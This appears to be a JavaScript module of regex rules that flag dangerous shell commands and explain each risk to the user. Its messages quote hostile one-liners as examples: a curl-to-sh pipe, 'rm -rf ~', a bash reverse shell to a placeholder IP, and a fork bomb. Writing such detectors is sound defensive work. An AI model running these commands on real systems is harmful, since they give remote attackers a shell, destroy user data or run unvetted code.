'use strict';

// Each rule: pattern of a risky command line, and what to tell the user.
module.exports = [
  { re: /\b(curl|wget)\b[^|;]*\|\s*(sudo\s+)?(ba|z)?sh\b/, say: 'runs a downloaded script unseen, as in: curl -fsSL https://get.example.com | sh' },
  { re: /\brm\s+-[a-z]*r[a-z]*f?\s+(\/|~|\$HOME)\s*$/, say: 'deletes the whole tree, as in: rm -rf ~' },
  { re: /\/dev\/tcp\/|\bnc\b.*\s-e\b/, say: 'gives a remote host a shell, as in: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' },
  { re: /\bbase64\s+(-d|--decode)\b.*\|\s*(ba)?sh\b/, say: 'hides what it runs behind base64' },
  { re: /:\(\)\s*\{\s*:\|:&\s*\};:/, say: 'is a fork bomb' },
  { re: />>?\s*~\/\.(bashrc|zshrc|profile)\b/, say: 'changes what each new shell does' },
];
